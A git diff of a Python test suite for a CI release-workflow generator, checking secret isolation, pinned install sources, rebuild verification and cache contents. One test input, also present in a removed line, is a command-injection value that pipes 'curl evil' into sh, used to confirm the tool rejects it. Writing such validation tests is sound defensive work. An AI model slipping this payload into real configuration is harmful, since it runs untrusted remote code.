@@ -3,6 +3,7 @@ GitLab CI schema, keep secrets in the assemble job, and `--check`/`--force` guar
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
@@ -42,8 +43,9 @@ def _yaml(path: Path) -> Any:
 def _lint_github(path: Path) -> None:
     linted = _tool("actionlint", "-no-color", str(path))
     assert linted.returncode == 0, linted.stdout + linted.stderr
-    # zizmor's offline audits, every one (pedantic): no finding and no ignore comment
-    audited = _tool("zizmor", "--offline", "--pedantic", "--no-progress", str(path))
+    # zizmor's offline audits, every one (the auditor persona: nothing suppressed), no
+    # finding and no ignore comment
+    audited = _tool("zizmor", "--offline", "--persona", "auditor", "--no-progress", str(path))
     assert audited.returncode == 0, audited.stdout + audited.stderr
     assert "zizmor: ignore" not in path.read_text()
 
@@ -123,14 +125,17 @@ def test_github_workflow_keeps_secrets_and_expressions_out_of_scripts(
             if "run" in step:
                 assert "${{" not in step["run"], (name, step["run"])
             env = json.dumps(step.get("env", {}))
-            if name != "assemble":
-                assert "secrets." not in env, name
+            if name != "assemble":  # the build jobs see the cache seal's key, nothing else
+                secrets = set(re.findall(r"secrets\.(\w+)", env))
+                assert secrets <= ({CI_SECRETS["cache"]} if name == "build" else set()), name
             if "actions/checkout" in step.get("uses", ""):
                 assert step["with"]["persist-credentials"] is False
     secret_steps = [
         step for step in jobs["assemble"]["steps"] if "secrets." in json.dumps(step.get("env", {}))
     ]
     assert [step["name"] for step in secret_steps] == ["Assemble and sign the release"]
+    assert jobs["assemble"]["environment"] == "release"
+    assert jobs["build"]["environment"] == "build"
     assert f"secrets.{CI_SECRETS['key']}" in json.dumps(secret_steps[0]["env"])
     # the key is written outside the checkout and removed when the step ends
     assert "trap 'rm -f \"$key\"' EXIT" in secret_steps[0]["run"]
@@ -148,66 +153,65 @@ def test_a_gpu_runner_label_reaches_the_matrix(tmp_path: Path, gpu_project: Path
     assert result.exit_code == 0, result.output
     _lint_github(out)
     plan = next(s for s in _jobs(_yaml(out))["plan"]["steps"] if s.get("id") == "plan")
-    assert json.loads(plan["env"]["RUNNERS"]) == {"cuda": ["self-hosted", "gpu", "linux"]}
+    assert json.loads(plan["env"]["RUNNERS"]) == {"a": {"cuda": ["self-hosted", "gpu", "linux"]}}
 
 
-def test_the_plan_step_emits_one_matrix_entry_per_target(
-    tmp_path: Path, gpu_project: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """The plan job's script, run here against the real dry run (Docker unreachable: the
-    plan needs none): the matrix lists every target with its runner labels."""
+def _plan_step(
+    workflow: Path, project: Path, tmp_path: Path, ref: str = "v1.2.3"
+) -> subprocess.CompletedProcess[str]:
+    """The plan job's script of `workflow`, run here against the real dry run (Docker
+    unreachable: the plan needs none) for a push of the tag `ref`."""
+    step = next(s for s in _jobs(_yaml(workflow))["plan"]["steps"] if s.get("id") == "plan")
+    temp = tmp_path / "runner-temp"
+    temp.mkdir(exist_ok=True)
+    (temp / "github-output").unlink(missing_ok=True)
+    env = {
+        **os.environ,
+        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
+        "DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock",
+        "ORCHESTRATOR_CONFIG": str(project / "orchestrator.toml"),
+        "ORCHESTRATOR_CACHE_DIR": str(tmp_path / "cache"),
+        "RUNNER_TEMP": str(temp),
+        "GITHUB_OUTPUT": str(temp / "github-output"),
+        "GITHUB_REF_TYPE": "tag",
+        "GITHUB_REF_NAME": ref,
+        **step["env"],
+    }
+    # actions/setup-python puts `python` on PATH: this virtualenv's stands in for it
+    return subprocess.run(
+        ["bash", "-e", "-c", step["run"]],
+        env=env,
+        cwd=project,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=300,
+    )
+
+
+def _matrix(ran: subprocess.CompletedProcess[str], tmp_path: Path) -> list[dict[str, Any]]:
+    assert ran.returncode == 0, ran.stdout + ran.stderr
+    line = (tmp_path / "runner-temp" / "github-output").read_text().strip()
+    assert line.startswith("targets=")
+    targets: list[dict[str, Any]] = json.loads(line.removeprefix("targets="))
+    return targets
+
+
+def test_the_plan_step_emits_one_matrix_entry_per_target(tmp_path: Path, gpu_project: Path) -> None:
     out = tmp_path / "release.yml"
     assert (
         cli("ci", "github", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(out)).exit_code
         == 0
     )
-    step = next(s for s in _jobs(_yaml(out))["plan"]["steps"] if s.get("id") == "plan")
-    temp = tmp_path / "runner-temp"
-    temp.mkdir()
-    output = temp / "github-output"
-    env = {
-        **os.environ,
-        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
-        "DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock",
-        "ORCHESTRATOR_CONFIG": str(gpu_project / "orchestrator.toml"),
-        "ORCHESTRATOR_CACHE_DIR": str(tmp_path / "cache"),
-        "RUNNER_TEMP": str(temp),
-        "GITHUB_OUTPUT": str(output),
-        "GITHUB_REF_TYPE": "tag",
-        "GITHUB_REF_NAME": "v1.2.3",
-        "RUNNERS": step["env"]["RUNNERS"],
-    }
-    # actions/setup-python puts `python` on PATH: this virtualenv's stands in for it
-    ran = subprocess.run(
-        ["bash", "-e", "-c", step["run"]],
-        env=env,
-        cwd=gpu_project,
-        capture_output=True,
-        text=True,
-        check=False,
-        timeout=300,
-    )
-    assert ran.returncode == 0, ran.stdout + ran.stderr
-    line = output.read_text().strip()
-    assert line.startswith("targets=")
-    targets = json.loads(line.removeprefix("targets="))
-    assert [(t["flavor"], t["level"], t["runner"]) for t in targets] == [
-        ("cpu", "x86-64-v2", ["ubuntu-latest"]),
-        ("cpu", "x86-64-v3", ["ubuntu-latest"]),
-        ("cuda", "x86-64-v2", ["self-hosted", "gpu", "linux"]),
+    targets = _matrix(_plan_step(out, gpu_project, tmp_path), tmp_path)
+    assert [(t["flavor"], t["level"], t["builder"], t["runner"]) for t in targets] == [
+        ("cpu", "x86-64-v2", "a", ["ubuntu-latest"]),
+        ("cpu", "x86-64-v3", "a", ["ubuntu-latest"]),
+        ("cuda", "x86-64-v2", "a", ["self-hosted", "gpu", "linux"]),
     ]
     assert all(t["artifact"].startswith("demo-1.2.3-linux-x86_64-") for t in targets)
     # a tag that is not the version the config releases stops the pipeline there
-    env["GITHUB_REF_NAME"] = "v9.9.9"
-    refused = subprocess.run(
-        ["bash", "-e", "-c", step["run"]],
-        env=env,
-        cwd=gpu_project,
-        capture_output=True,
-        text=True,
-        check=False,
-        timeout=300,
-    )
+    refused = _plan_step(out, gpu_project, tmp_path, ref="v9.9.9")
     assert refused.returncode == 1
     assert "::error::tag v9.9.9 is not v1.2.3" in refused.stdout
 
@@ -282,30 +286,105 @@ def test_check_and_force(tmp_path: Path, gpu_project: Path) -> None:
     assert cli("ci", "github", "-c", config, "-o", str(out), "--check").exit_code == 0
 
 
-def test_install_spec_and_public_key_are_written_and_checked(
+WHEEL = "rust_release_orchestrator-0.1.0-py3-none-any.whl"
+SHA = "0e247cf1b788433ebc1e0d8c601c55b79dc4b93c2247cf6f5e77980b0f348162"
+COMMIT = "11bd71901bbe5b1630ceea73d27597364c9af683"
+
+
+@pytest.mark.parametrize(
+    ("source", "requirement"),
+    [
+        ("pypi", "rust-release-orchestrator==0.1.0"),
+        (
+            f"https://example.com/dist/{WHEEL}#sha256={SHA}",
+            f"rust-release-orchestrator @ https://example.com/dist/{WHEEL}#sha256={SHA}",
+        ),
+        (
+            f"file:///srv/wheels/{WHEEL}#sha256={SHA}",
+            f"rust-release-orchestrator @ file:///srv/wheels/{WHEEL}#sha256={SHA}",
+        ),
+        (
+            f"git+https://example.com/orchestrator.git@{COMMIT}",
+            f"rust-release-orchestrator @ git+https://example.com/orchestrator.git@{COMMIT}",
+        ),
+    ],
+)
+def test_ci_install_is_written_into_both_files(
+    tmp_path: Path, gpu_project: Path, source: str, requirement: str
+) -> None:
+    config = gpu_project / "orchestrator.toml"
+    config.write_text(config.read_text().replace("[ci]\n", f'[ci]\ninstall = "{source}"\n'))
+    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
+    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
+    assert cli("ci", "gitlab", "-c", str(config), "-o", str(gitlab)).exit_code == 0
+    assert _yaml(github)["env"]["ORCHESTRATOR_INSTALL"] == requirement
+    assert _yaml(gitlab)["variables"]["ORCHESTRATOR_INSTALL"] == requirement
+    _lint_github(github)
+    _validate_gitlab(gitlab)
+    # from the config, so the command that writes it again needs no flag
+    assert "--install" not in github.read_text().splitlines()[1]
+
+
+def test_install_flag_and_public_key_are_written_and_checked(
     tmp_path: Path, gpu_project: Path
 ) -> None:
     config = str(gpu_project / "orchestrator.toml")
     (gpu_project / "minisign.pub").write_text("untrusted comment: x\nRWQ\n")
     out = tmp_path / "release.yml"
-    spec = "rust-release-orchestrator @ git+https://example.com/orchestrator@v0.1.0"
+    source = f"git+https://example.com/orchestrator.git@{COMMIT}"
     result = cli(
-        "ci", "github", "-c", config, "-o", str(out), "--install-spec", spec,
+        "ci", "github", "-c", config, "-o", str(out), "--install", source,
         "--public-key", str(gpu_project / "minisign.pub"),
     )  # fmt: skip
     assert result.exit_code == 0, result.output
     _lint_github(out)
     text = out.read_text()
-    assert f'ORCHESTRATOR_INSTALL: "{spec}"' in text
+    assert f'ORCHESTRATOR_INSTALL: "rust-release-orchestrator @ {source}"' in text
     assert 'orchestrator verify "$RELEASE_DIR" --key minisign.pub' in text
-    assert "--public-key minisign.pub" in text  # the command that writes it again
+    # the command that writes it again
+    assert f"--install {source} --public-key minisign.pub" in text
+
+
+@pytest.mark.parametrize(
+    ("source", "words"),
+    [
+        ("rust-release-orchestrator==0.1.0", "is not one of its three forms"),
+        (f"https://example.com/{WHEEL}", "wheel URL this can pin"),
+        (f"https://example.com/{WHEEL}#sha256={SHA.upper()}", "wheel URL this can pin"),
+        (f"http://example.com/{WHEEL}#sha256={SHA}", "plain http"),
+        (f"https://example.com/other-1.0-py3-none-any.whl#sha256={SHA}", "wheel URL this can pin"),
+        ("git+https://example.com/orchestrator.git@v0.1.0", "git URL this can pin"),
+        ("git+https://example.com/orchestrator.git", "git URL this can pin"),
+        (f'x"; curl evil | sh; "{WHEEL}#sha256={SHA}', "wheel URL this can pin"),
+        (f"https://example.com/$HOME/{WHEEL}#sha256={SHA}", "wheel URL this can pin"),
+    ],
+)
+def test_a_bad_ci_install_is_a_config_error_wherever_it_is_set(
+    gpu_project: Path, tmp_path: Path, source: str, words: str
+) -> None:
+    config = gpu_project / "orchestrator.toml"
+    flagged = cli(
+        "ci", "github", "-c", str(config), "-o", str(tmp_path / "x.yml"), "--install", source
+    )
+    assert flagged.exit_code == 10, flagged.output
+    assert f"--install {source!r}" in flagged.output
+    assert words in flagged.output
+    config.write_text(
+        config.read_text().replace("[ci]\n", f"[ci]\ninstall = {json.dumps(source)}\n")
+    )
+    # any command that reads the config refuses it, not only `ci`
+    configured = cli("build", "--dry-run", "-c", str(config))
+    assert configured.exit_code == 10, configured.output
+    assert "ci.install" in configured.output
+    assert words in configured.output
+    assert "Traceback" not in flagged.output + configured.output
+    assert not (tmp_path / "x.yml").exists()
 
 
 @pytest.mark.parametrize(
     ("args", "code", "words"),
     [
         (["ci", "jenkins"], 2, "jenkins"),
-        (["ci", "github", "--install-spec", 'x"; curl evil | sh; "'], 10, "--install-spec"),
         (["ci", "github", "--public-key", "no-such.pub"], 10, "no-such.pub"),
     ],
 )
@@ -348,3 +427,137 @@ def test_a_bad_runner_setting_is_a_config_error(
     assert result.exit_code == 10, result.output
     assert words in result.output
     assert "ci.runners" in result.output
+
+
+def _verify_project(project: Path, verify: str) -> Path:
+    config = project / "orchestrator.toml"
+    config.write_text(
+        config.read_text().replace(
+            '[ci]\nrunners = ["cuda=self-hosted", "cuda=gpu", "cuda=linux"]\n',
+            f'[ci]\nverify = "{verify}"\nrunners = ["cuda=self-hosted", "cuda=gpu", '
+            '"cuda@b=gpu-lab", "cpu@b=self-hosted"]\n',
+        )
+    )
+    return config
+
+
+def test_rebuild_builds_every_target_twice_and_assemble_needs_them_to_agree(
+    tmp_path: Path, gpu_project: Path
+) -> None:
+    config = _verify_project(gpu_project, "rebuild")
+    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
+    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
+    assert cli("ci", "gitlab", "-c", str(config), "-o", str(gitlab)).exit_code == 0
+    _lint_github(github)
+    _validate_gitlab(gitlab)
+    targets = _matrix(_plan_step(github, gpu_project, tmp_path), tmp_path)
+    assert [(t["level"], t["flavor"], t["builder"], t["runner"]) for t in targets] == [
+        ("x86-64-v2", "cpu", "a", ["ubuntu-latest"]),
+        ("x86-64-v3", "cpu", "a", ["ubuntu-latest"]),
+        ("x86-64-v2", "cuda", "a", ["self-hosted", "gpu"]),
+        # builder b: where FLAVOR@b names a runner
+        ("x86-64-v2", "cpu", "b", ["self-hosted"]),
+        ("x86-64-v3", "cpu", "b", ["self-hosted"]),
+        ("x86-64-v2", "cuda", "b", ["gpu-lab"]),
+    ]
+    jobs = _jobs(_yaml(github))
+    steps = jobs["build"]["steps"]
+    upload = next(s for s in steps if "upload-artifact" in s.get("uses", ""))
+    assert (
+        upload["with"]["name"]
+        == "target-${{ matrix.target.artifact }}-${{ matrix.target.builder }}"
+    )
+    # each builder restores and saves only its own cache entries
+    for step in (s for s in steps if "actions/cache/" in s.get("uses", "")):
+        assert step["with"]["key"].count("${{ matrix.target.builder }}-") == 1
+        assert "steps" not in step["with"]["path"]
+    assemble = next(s for s in jobs["assemble"]["steps"] if s.get("id") == "assemble")
+    assert 'orchestrator release assemble --agree all "$RUNNER_TEMP"/targets/*/*' in assemble["run"]
+    document = _yaml(gitlab)
+    assert document["build-cpu"]["variables"]["BUILDER"] == "a"
+    assert document["build-cpu-b"]["variables"]["BUILDER"] == "b"
+    assert document["build-cpu-b"]["tags"] == ["self-hosted"]
+    assert "tags" not in document["build-cpu"]
+    assert document["build-cuda-b"]["tags"] == ["gpu-lab"]
+    assert document["build-cpu-b"]["cache"]["key"]["prefix"].endswith("-$LEVEL-$BUILDER")
+    assert document["assemble"]["needs"] == [
+        "plan", "build-cpu", "build-cuda", "build-cpu-b", "build-cuda-b",
+    ]  # fmt: skip
+    assert any("release assemble --agree all" in line for line in document["assemble"]["script"])
+
+
+def test_rebuild_one_builds_the_target_the_tag_hashes_to(tmp_path: Path, gpu_project: Path) -> None:
+    config = _verify_project(gpu_project, "rebuild-one")
+    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
+    assert cli("ci", "github", "-c", str(config), "-o", str(github)).exit_code == 0
+    assert cli("ci", "gitlab", "-c", str(config), "-o", str(gitlab)).exit_code == 0
+    _lint_github(github)
+    _validate_gitlab(gitlab)
+    targets = _matrix(_plan_step(github, gpu_project, tmp_path), tmp_path)
+    firsts = [t["artifact"] for t in targets if t["builder"] == "a"]
+    (again,) = [t for t in targets if t["builder"] == "b"]
+    digest = hashlib.sha256(b"v1.2.3").hexdigest()
+    assert again["artifact"] == firsts[int(digest, 16) % len(firsts)]
+    assert again["runner"] == (["gpu-lab"] if again["flavor"] == "cuda" else ["self-hosted"])
+    assemble = next(
+        s for s in _jobs(_yaml(github))["assemble"]["steps"] if s.get("id") == "assemble"
+    )
+    assert "orchestrator release assemble --agree one" in assemble["run"]
+    # GitLab: the plan writes the choice down (the same hash of the tag's name), and the
+    # second builder's jobs of every other target end at once
+    document = _yaml(gitlab)
+    assert ".orchestrator/rebuild-one" in document["plan"]["artifacts"]["paths"]
+    plan_script = "\n".join(document["plan"]["script"])
+    assert 'hashlib.sha256(os.environ["CI_COMMIT_REF_NAME"].encode())' in plan_script
+    skip = [line for line in document["build-cpu-b"]["script"] if "rebuild-one" in line]
+    assert len(skip) == 1
+    assert "exit 0" in skip[0]
+    assert not any("rebuild-one" in line for line in document["build-cpu"]["script"])
+    assert any("release assemble --agree one" in line for line in document["assemble"]["script"])
+
+
+def test_verify_off_has_one_builder_and_no_agreement(tmp_path: Path, gpu_project: Path) -> None:
+    out, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
+    config = str(gpu_project / "orchestrator.toml")
+    assert cli("ci", "github", "-c", config, "-o", str(out)).exit_code == 0
+    assert cli("ci", "gitlab", "-c", config, "-o", str(gitlab)).exit_code == 0
+    assert "--agree" not in out.read_text() + gitlab.read_text()
+    assert "build-cpu-b" not in _yaml(gitlab)
+    assert {t["builder"] for t in _matrix(_plan_step(out, gpu_project, tmp_path), tmp_path)} == {
+        "a"
+    }
+
+
+def test_a_bad_verify_value_is_a_config_error(gpu_project: Path, tmp_path: Path) -> None:
+    config = _verify_project(gpu_project, "twice")
+    result = cli("ci", "github", "-c", str(config), "-o", str(tmp_path / "x.yml"))
+    assert result.exit_code == 10, result.output
+    assert "ci.verify" in result.output
+    assert "off, rebuild, rebuild-one" in result.output
+
+
+def test_the_caches_hold_no_built_binaries(tmp_path: Path, gpu_project: Path) -> None:
+    """What a build job restores: crates (checked against Cargo.lock) and sealed profiles,
+    never the step cache, the rootfs or the .debs; the seal's key comes from a secret."""
+    github, gitlab = tmp_path / "release.yml", tmp_path / "gitlab.yml"
+    config = str(gpu_project / "orchestrator.toml")
+    assert cli("ci", "github", "-c", config, "-o", str(github)).exit_code == 0
+    assert cli("ci", "gitlab", "-c", config, "-o", str(gitlab)).exit_code == 0
+    steps = _jobs(_yaml(github))["build"]["steps"]
+    caches = [s for s in steps if "actions/cache/" in s.get("uses", "")]
+    assert [s["uses"].split("@")[0] for s in caches] == [
+        "actions/cache/restore",
+        "actions/cache/save",
+    ]
+    for step in caches:
+        assert step["with"]["path"].split() == [
+            "~/.cache/orchestrator/crates",
+            "~/.cache/orchestrator/profiles",
+        ]
+    build = next(s for s in steps if s.get("name", "").startswith("Build "))
+    assert build["env"]["ORCHESTRATOR_CACHE_KEY"] == "${{ secrets.ORCHESTRATOR_CACHE_KEY }}"
+    for job in ("build-cpu", "build-cuda"):
+        assert _yaml(gitlab)[job]["cache"]["paths"] == [
+            ".orchestrator-cache/crates",
+            ".orchestrator-cache/profiles",
+        ]
